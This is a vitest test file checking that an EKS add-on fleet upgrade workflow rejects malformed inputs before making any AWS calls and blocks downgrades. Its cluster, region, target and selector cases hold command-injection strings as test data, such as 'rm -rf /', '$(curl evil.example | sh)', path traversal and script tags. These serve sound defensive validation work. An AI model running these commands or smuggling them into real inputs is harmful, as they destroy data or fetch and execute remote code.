import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FleetFile } from '../../lib/fleet/fleet-file.js';
import { executionCause, startLocalWorkflow, type LoadedFleet, type LocalWorkflow } from '../invariants/local-workflow.js';

// Malformed execution inputs through the REAL workflow: statemachines/workflows.asl.yaml run by the local runner over the
// real handlers, against one simulator (over HTTP) and one dynalite for the whole file. Each must fail at
// ValidateInput / ValidateFleetInput with an InputValidationError naming the field, before any EKS call.

const ROLE = 'arn:aws:iam::111122223333:role/AmazonEKSVPCCNIRole';
const fleet = FleetFile.parse({
  settings: { updateSeconds: 30, secondsPerNode: 0 },
  clusters: [
    { name: 'payments-prod', region: 'us-east-1', kubernetesVersion: '1.29', addon: { version: 'v1.19.0-eksbuild.1', serviceAccountRoleArn: ROLE } },
    { name: 'web', region: 'us-east-1', kubernetesVersion: '1.30', addon: { version: 'v1.20.5-eksbuild.1' } },
    { name: 'eu-app', region: 'eu-west-1', kubernetesVersion: '1.29', addon: { version: 'v1.18.5-eksbuild.1' } },
  ],
});

const good = { name: 'payments-prod', region: 'us-east-1' } as const;
const withCluster = (cluster: Record<string, unknown>) => ({ cluster: { ...good, ...cluster } });
const withOptions = (options: unknown) => ({ cluster: good, options });
const LONG = 'a'.repeat(101);

interface Case {
  readonly name: string;
  readonly input: unknown;
  readonly field: string;
}

const clusterCases: Case[] = [
  { name: 'input is a string', input: 'payments-prod', field: '(root)' },
  { name: 'input is an array', input: [good], field: '(root)' },
  { name: 'cluster missing', input: { options: {} }, field: 'cluster' },
  { name: 'cluster is a string', input: { cluster: 'payments-prod' }, field: 'cluster' },
  { name: 'name missing', input: { cluster: { region: 'us-east-1' } }, field: 'cluster.name' },
  { name: 'name is a number', input: withCluster({ name: 42 }), field: 'cluster.name' },
  { name: 'name empty', input: withCluster({ name: '' }), field: 'cluster.name' },
  { name: 'name starts with a hyphen', input: withCluster({ name: '-payments' }), field: 'cluster.name' },
  { name: 'name starts with an underscore', input: withCluster({ name: '_payments' }), field: 'cluster.name' },
  { name: 'name with a dot', input: withCluster({ name: 'payments.prod' }), field: 'cluster.name' },
  { name: 'name with a space', input: withCluster({ name: 'payments prod' }), field: 'cluster.name' },
  { name: 'name of 101 characters', input: withCluster({ name: LONG }), field: 'cluster.name' },
  { name: 'name with "; rm -rf /"', input: withCluster({ name: 'payments-prod; rm -rf /' }), field: 'cluster.name' },
  { name: 'name with $(…)', input: withCluster({ name: '$(curl evil.example | sh)' }), field: 'cluster.name' },
  { name: 'name with backticks', input: withCluster({ name: 'prod`id`' }), field: 'cluster.name' },
  { name: 'name with ../', input: withCluster({ name: '../../etc/passwd' }), field: 'cluster.name' },
  { name: 'name with <script>', input: withCluster({ name: '<script>alert(1)</script>' }), field: 'cluster.name' },
  { name: 'name with a Cyrillic homoglyph', input: withCluster({ name: 'p\u0430yments-prod' }), field: 'cluster.name' },
  { name: 'name with a NUL byte', input: withCluster({ name: 'payments-prod\u0000' }), field: 'cluster.name' },
  { name: 'name with a trailing newline', input: withCluster({ name: 'payments-prod\n' }), field: 'cluster.name' },
  { name: 'name with a zero-width space', input: withCluster({ name: 'payments\u200b-prod' }), field: 'cluster.name' },
  { name: 'region missing', input: { cluster: { name: 'payments-prod' } }, field: 'cluster.region' },
  { name: 'region upper-case', input: withCluster({ region: 'US-EAST-1' }), field: 'cluster.region' },
  { name: 'region not a region', input: withCluster({ region: 'mars-1' }), field: 'cluster.region' },
  { name: 'region with "; rm -rf ~"', input: withCluster({ region: 'us-east-1; rm -rf ~' }), field: 'cluster.region' },
  { name: 'region with ../', input: withCluster({ region: '../us-east-1' }), field: 'cluster.region' },
  { name: 'region with a Cyrillic homoglyph', input: withCluster({ region: 'us-\u0435ast-1' }), field: 'cluster.region' },
  { name: 'region of 10,000 characters', input: withCluster({ region: `us-east-${'1'.repeat(10_000)}` }), field: 'cluster.region' },
  { name: 'accountId of 11 digits', input: withCluster({ accountId: '11112222333' }), field: 'cluster.accountId' },
  { name: 'accountId with dashes', input: withCluster({ accountId: '1111-2222-3333' }), field: 'cluster.accountId' },
  // The deployment (account 111122223333) has no role in 222233334444: its calls would reach its own cluster of that name.
  { name: 'accountId of another account without a role', input: withCluster({ accountId: '222233334444' }), field: 'cluster.roleArn' },
  { name: 'accountId as a number', input: withCluster({ accountId: 111122223333 }), field: 'cluster.accountId' },
  { name: 'accountId in Arabic-Indic digits', input: withCluster({ accountId: '\u0661'.repeat(12) }), field: 'cluster.accountId' },
  { name: 'roleArn a bare role name', input: withCluster({ roleArn: 'AmazonEKSVPCCNIRole' }), field: 'cluster.roleArn' },
  { name: 'roleArn of an IAM user', input: withCluster({ roleArn: 'arn:aws:iam::111122223333:user/bob' }), field: 'cluster.roleArn' },
  { name: 'roleArn in a made-up partition', input: withCluster({ roleArn: 'arn:awsx:iam::111122223333:role/x' }), field: 'cluster.roleArn' },
  { name: 'roleArn with $(…)', input: withCluster({ roleArn: 'arn:aws:iam::111122223333:role/$(whoami)' }), field: 'cluster.roleArn' },
  { name: 'roleArn over 255 characters', input: withCluster({ roleArn: `arn:aws:iam::111122223333:role/${'r'.repeat(250)}` }), field: 'cluster.roleArn' },
  {
    name: 'roleArn in another account than accountId',
    input: withCluster({ accountId: '111122223333', roleArn: 'arn:aws:iam::222233334444:role/cni-fleet' }),
    field: 'cluster.roleArn',
  },
  { name: 'unknown key in cluster', input: withCluster({ nmae: 'payments-prod' }), field: 'cluster.nmae' },
  { name: 'unknown top-level key', input: { cluster: good, force: true }, field: 'force' },
  { name: 'options a string', input: withOptions('fast'), field: 'options' },
  { name: 'unknown option', input: withOptions({ dryrun: true }), field: 'options.dryrun' },
  { name: 'target without -eksbuild', input: withOptions({ target: 'v1.20.0' }), field: 'options.target' },
  { name: 'target without the v', input: withOptions({ target: '1.20.0-eksbuild.1' }), field: 'options.target' },
  { name: 'target a made-up word', input: withOptions({ target: 'newest' }), field: 'options.target' },
  { name: 'target with leading zeros', input: withOptions({ target: 'v01.20.0-eksbuild.1' }), field: 'options.target' },
  { name: 'target with "; rm -rf /"', input: withOptions({ target: 'v1.20.0-eksbuild.1; rm -rf /' }), field: 'options.target' },
  { name: 'target a number', input: withOptions({ target: 1.2 }), field: 'options.target' },
  { name: 'target empty', input: withOptions({ target: '' }), field: 'options.target' },
  { name: 'dryRun a string', input: withOptions({ dryRun: 'yes' }), field: 'options.dryRun' },
  { name: 'allowDowngrade a number', input: withOptions({ allowDowngrade: 1 }), field: 'options.allowDowngrade' },
  { name: 'resolveConflicts unknown', input: withOptions({ resolveConflicts: 'FORCE' }), field: 'options.resolveConflicts' },
  { name: 'resolveConflicts lower-case', input: withOptions({ resolveConflicts: 'preserve' }), field: 'options.resolveConflicts' },
  { name: 'pollIntervalSeconds 0', input: withOptions({ pollIntervalSeconds: 0 }), field: 'options.pollIntervalSeconds' },
  { name: 'pollIntervalSeconds negative', input: withOptions({ pollIntervalSeconds: -15 }), field: 'options.pollIntervalSeconds' },
  { name: 'pollIntervalSeconds fractional', input: withOptions({ pollIntervalSeconds: 1.5 }), field: 'options.pollIntervalSeconds' },
  { name: 'expectedHopSeconds absurd', input: withOptions({ expectedHopSeconds: 1e9 }), field: 'options.expectedHopSeconds' },
  { name: 'hopTimeoutSeconds under a minute', input: withOptions({ hopTimeoutSeconds: 59 }), field: 'options.hopTimeoutSeconds' },
  { name: 'hopTimeoutSeconds a year', input: withOptions({ hopTimeoutSeconds: 31_536_000 }), field: 'options.hopTimeoutSeconds' },
  { name: 'hopTimeoutSeconds a string', input: withOptions({ hopTimeoutSeconds: '1800' }), field: 'options.hopTimeoutSeconds' },
  { name: 'concurrency 41', input: withOptions({ concurrency: 41 }), field: 'options.concurrency' },
  { name: 'kubernetesAccess unknown', input: withOptions({ kubernetesAccess: 'optional' }), field: 'options.kubernetesAccess' },
  { name: 'rolloutSoakSeconds negative', input: withOptions({ rolloutSoakSeconds: -1 }), field: 'options.rolloutSoakSeconds' },
  { name: 'rolloutSoakSeconds no shorter than the hop timeout', input: withOptions({ hopTimeoutSeconds: 300, rolloutSoakSeconds: 300 }), field: 'options.rolloutSoakSeconds' },
  { name: 'failureThreshold negative', input: withOptions({ failureThreshold: -1 }), field: 'options.failureThreshold' },
  { name: 'trigger unknown', input: { cluster: good, trigger: 'cron' }, field: 'trigger' },
  { name: 'runId with a slash', input: { cluster: good, runId: 'run/1' }, field: 'runId' },
  { name: 'runId of 81 characters', input: { cluster: good, runId: 'r'.repeat(81) }, field: 'runId' },
  { name: 'runId with a NUL byte', input: { cluster: good, runId: 'run\u00001' }, field: 'runId' },
  { name: 'addon cni-fleet has no spec for', input: { cluster: good, addon: 'coredns' }, field: 'addon' },
  { name: 'addon not a string', input: { cluster: good, addon: 1 }, field: 'addon' },
];

const selector = { regions: ['us-east-1'], tags: { env: 'prod' } };
const withSelector = (s: Record<string, unknown>) => ({ selector: { ...selector, ...s } });
const list = (...clusters: Record<string, unknown>[]) => ({ clusters });

const fleetCases: Case[] = [
  { name: 'neither clusters nor selector', input: {}, field: 'clusters' },
  { name: 'both clusters and selector', input: { ...list(good), selector }, field: 'clusters' },
  { name: 'clusters empty', input: list(), field: 'clusters' },
  { name: 'clusters an object', input: { clusters: good }, field: 'clusters' },
  // 10,001 listed entries would be over the 256 KiB execution input: a stored list of that size is refused instead.
  { name: 'a stored list of 10,001 clusters', input: { runId: 'big-list', clustersRef: { parts: 20, count: 10_001 } }, field: 'clustersRef.count' },
  { name: 'a stored list without runId', input: { clustersRef: { parts: 1, count: 10 } }, field: 'runId' },
  { name: 'clusters and clustersRef', input: { runId: 'both', clusters: [{ name: 'c0', region: 'us-east-1' }], clustersRef: { parts: 1, count: 1 } }, field: 'clusters' },
  { name: 'clusters[3].name with ";"', input: list(good, { ...good, name: 'a' }, { ...good, name: 'b' }, { ...good, name: 'c;reboot' }), field: 'clusters[3].name' },
  { name: 'clusters[1] a duplicate', input: list(good, { name: 'web', region: 'us-east-1' }, { ...good }), field: 'clusters[2].name' },
  {
    name: 'clusters[1] a duplicate by its role account',
    input: list({ ...good, accountId: '222233334444' }, { ...good, roleArn: 'arn:aws:iam::222233334444:role/cni-fleet' }),
    field: 'clusters[1].name',
  },
  { name: 'clusters[1] in another account without a role', input: list(good, { name: 'web', region: 'us-east-1', accountId: '222233334444' }), field: 'clusters[1].roleArn' },
  { name: 'clusters[1] a duplicate naming the home account', input: list(good, { ...good, accountId: '111122223333' }), field: 'clusters[1].name' },
  { name: 'clusters[0].region bad', input: list({ ...good, region: 'useast1' }), field: 'clusters[0].region' },
  { name: 'clusters[0] unknown key', input: list({ ...good, wave: 'canary' }), field: 'clusters[0].wave' },
  { name: 'selector.regions empty', input: withSelector({ regions: [] }), field: 'selector.regions' },
  { name: 'selector.regions 31 entries', input: withSelector({ regions: Array.from({ length: 31 }, () => 'us-east-1') }), field: 'selector.regions' },
  { name: 'selector.regions[1] bad', input: withSelector({ regions: ['us-east-1', 'eu-west'] }), field: 'selector.regions[1]' },
  { name: 'selector.regions[1] a duplicate', input: withSelector({ regions: ['us-east-1', 'us-east-1'] }), field: 'selector.regions[1]' },
  { name: 'selector.tags an array', input: withSelector({ tags: ['env=prod'] }), field: 'selector.tags' },
  { name: 'selector.tags value a number', input: withSelector({ tags: { env: 1 } }), field: 'selector.tags.env' },
  { name: 'selector.tags value of 257 characters', input: withSelector({ tags: { env: 'p'.repeat(257) } }), field: 'selector.tags.env' },
  { name: 'selector.tags key with a NUL byte', input: withSelector({ tags: { 'env\u0000': 'prod' } }), field: 'selector.tags["env\\u0000"]' },
  {
    name: 'selector.tags 51 entries',
    input: withSelector({ tags: Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`k${i}`, 'v'])) }),
    field: 'selector.tags',
  },
  { name: 'selector.accounts[0].accountId bad', input: withSelector({ accounts: [{ accountId: '42', roleArn: ROLE }] }), field: 'selector.accounts[0].accountId' },
  { name: 'selector.accounts[0].roleArn missing', input: withSelector({ accounts: [{ accountId: '111122223333' }] }), field: 'selector.accounts[0].roleArn' },
  {
    name: 'selector.accounts[0].roleArn in another account',
    input: withSelector({ accounts: [{ accountId: '222233334444', roleArn: ROLE }] }),
    field: 'selector.accounts[0].roleArn',
  },
  {
    name: 'selector.accounts 1,001 entries',
    input: withSelector({ accounts: Array.from({ length: 1001 }, () => ({ accountId: '111122223333', roleArn: ROLE })) }),
    field: 'selector.accounts',
  },
  {
    name: 'a selector over 1,000 accounts × 11 Regions (11,000 lanes)',
    input: withSelector({
      regions: ['us-east-1', 'us-east-2', 'us-west-1', 'us-west-2', 'eu-west-1', 'eu-west-2', 'eu-west-3', 'eu-central-1', 'eu-north-1', 'ap-south-1', 'ap-northeast-1'],
      accounts: Array.from({ length: 1000 }, () => ({ accountId: '111122223333', roleArn: ROLE })),
    }),
    field: 'selector.accounts',
  },
  { name: 'selector.namePrefix ../', input: withSelector({ namePrefix: '../' }), field: 'selector.namePrefix' },
  { name: 'selector.namePrefix $(…)', input: withSelector({ namePrefix: '$(rm -rf /)' }), field: 'selector.namePrefix' },
  { name: 'selector unknown key', input: withSelector({ name: 'payments-prod' }), field: 'selector.name' },
  { name: 'waveTag empty', input: { ...list(good), waveTag: '' }, field: 'waveTag' },
  { name: 'waveTag <script>', input: { ...list(good), waveTag: '<script>alert(1)</script>' }, field: 'waveTag' },
  { name: 'skipTag of 129 characters', input: { ...list(good), skipTag: 's'.repeat(129) }, field: 'skipTag' },
  { name: 'options.concurrency 0', input: { ...list(good), options: { concurrency: 0 } }, field: 'options.concurrency' },
  { name: 'options.concurrency 1,000', input: { ...list(good), options: { concurrency: 1000 } }, field: 'options.concurrency' },
  { name: 'options.perLaneConcurrency 41 (an inline Map runs at most 40)', input: { ...list(good), options: { perLaneConcurrency: 41 } }, field: 'options.perLaneConcurrency' },
  { name: 'options.lanesAtOnce 0', input: { ...list(good), options: { lanesAtOnce: 0 } }, field: 'options.lanesAtOnce' },
  { name: 'options.lanesAtOnce 10,001', input: { ...list(good), options: { lanesAtOnce: 10_001 } }, field: 'options.lanesAtOnce' },
  { name: 'options.failureThreshold -5', input: { ...list(good), options: { failureThreshold: -5 } }, field: 'options.failureThreshold' },
  { name: 'options.failureThreshold 1e12', input: { ...list(good), options: { failureThreshold: 1e12 } }, field: 'options.failureThreshold' },
  { name: 'options.target v2', input: { ...list(good), options: { target: 'v2' } }, field: 'options.target' },
  { name: 'trigger "fleet" (child executions only)', input: { ...list(good), trigger: 'fleet' }, field: 'trigger' },
  { name: 'runId with $(…)', input: { ...list(good), runId: '$(id)' }, field: 'runId' },
  { name: 'addon cni-fleet has no spec for', input: { ...list(good), addon: 'coredns' }, field: 'addon' },
];

describe('bad execution input, through the real workflow', () => {
  let workflow: LocalWorkflow;
  let loaded: LoadedFleet;
  let executions = 0;

  beforeAll(async () => {
    workflow = await startLocalWorkflow();
    loaded = await workflow.load(fleet);
  });
  afterAll(async () => {
    await loaded?.close();
    await workflow?.close();
  });

  /** Runs one execution; returns its output or the typed error it failed with, and the EKS calls it made. */
  const execute = async (kind: 'cluster' | 'fleet', input: unknown) => {
    executions += 1;
    const name = `bad-${kind}-${executions}`;
    const before = loaded.sim.calls.length;
    const run = kind === 'cluster' ? workflow.runCluster(input, name) : workflow.runFleet(input, name);
    const { output, error } = await run.then(
      (o: unknown) => ({ output: o as { status?: string; error?: { name?: string; message?: string } } | undefined, error: undefined }),
      (e: unknown) => ({ output: undefined, error: executionCause(e) }),
    );
    return { name, output, error, calls: loaded.sim.calls.slice(before) };
  };

  it.each(clusterCases)('cluster workflow refuses $name, naming $field', async ({ input, field }) => {
    // Act
    const { name, error, calls } = await execute('cluster', input);
    // Assess
    expect(error).toMatchObject({ name: 'InputValidationError', field });
    expect(error?.message?.startsWith(`${field}: `)).toBe(true);
    expect(calls).toEqual([]);
    expect(await loaded.store.listRunClusters(name)).toEqual([]);
  });

  it.each(fleetCases)('fleet workflow refuses $name, naming $field', async ({ input, field }) => {
    // Act
    const { name, error, calls } = await execute('fleet', input);
    // Assess
    expect(error).toMatchObject({ name: 'InputValidationError', field });
    expect(calls).toEqual([]);
    expect(await loaded.store.listRunClusters(name)).toEqual([]);
  });

  // A downgrade needs the installed version, so it is refused at PlanUpgrade: BLOCKED, before any change. The
  // execution succeeds with that outcome: nothing went wrong, the cluster was left alone on purpose.
  it.each([
    { name: 'an older build of the same minor', target: 'v1.19.0-eksbuild.1', cluster: 'web', installed: 'v1.20.5-eksbuild.1' },
    { name: 'a build two minors down', target: 'v1.18.5-eksbuild.1', cluster: 'web', installed: 'v1.20.5-eksbuild.1' },
    { name: 'a build one minor down', target: 'v1.18.5-eksbuild.1', cluster: 'payments-prod', installed: 'v1.19.0-eksbuild.1' },
  ])('cluster workflow blocks a downgrade to $name without allowDowngrade', async ({ target, cluster, installed }) => {
    // Act
    const { name, output, error, calls } = await execute('cluster', { cluster: { name: cluster, region: 'us-east-1' }, options: { target } });
    // Assess
    expect(error).toBeUndefined();
    expect(output).toMatchObject({ status: 'BLOCKED', error: { name: 'PlanBlockedError' } });
    expect(output?.error?.message).toMatch(/older than the installed .*allowDowngrade/);
    expect(calls.filter((c) => c.mutating)).toEqual([]);
    const [record] = await loaded.store.listRunClusters(name);
    expect(record?.cluster).toMatchObject({ status: 'BLOCKED', error: { name: 'PlanBlockedError' } });
    expect(record?.cluster?.error?.message).toContain(target);
    expect(record?.hops).toEqual([]);
    expect(loaded.sim.cluster(cluster, 'us-east-1')?.addon?.addonVersion).toBe(installed);
  });

  it('fleet workflow completes with every downgraded cluster BLOCKED and its reason recorded', async () => {
    // Act
    const { name, error, calls } = await execute('fleet', {
      clusters: [good, { name: 'web', region: 'us-east-1' }, { name: 'eu-app', region: 'eu-west-1' }],
      options: { target: 'v1.16.0-eksbuild.1', failureThreshold: 0 },
    });
    // Assess
    expect(error).toBeUndefined();
    expect(calls.filter((c) => c.mutating)).toEqual([]);
    const records = await loaded.store.listRunClusters(name);
    expect(records.map((r) => [r.cluster?.clusterName, r.cluster?.status]).sort()).toEqual([
      ['eu-app', 'BLOCKED'],
      ['payments-prod', 'BLOCKED'],
      ['web', 'BLOCKED'],
    ]);
    for (const r of records) expect(r.cluster?.error?.message).toMatch(/v1\.16\.0-eksbuild\.1 is older than the installed/);
  });

  it('blocks a well-formed target that EKS does not offer, before any change', async () => {
    // Act
    const { name, output, error, calls } = await execute('cluster', { cluster: good, options: { target: 'v1.99.0-eksbuild.1' } });
    // Assess
    expect(error).toBeUndefined();
    expect(output).toMatchObject({ status: 'BLOCKED', error: { name: 'PlanBlockedError' } });
    expect(calls.filter((c) => c.mutating)).toEqual([]);
    const [record] = await loaded.store.listRunClusters(name);
    expect(record?.cluster).toMatchObject({ status: 'BLOCKED', error: { name: 'PlanBlockedError' } });
    expect(record?.cluster?.error?.message).toContain('v1.99.0-eksbuild.1');
  });

  it('made no mutating EKS call in the whole file', () => {
    // Assess
    expect(loaded.sim.count({ mutating: true })).toBe(0);
    expect(clusterCases.length + fleetCases.length).toBeGreaterThanOrEqual(50);
  });
});
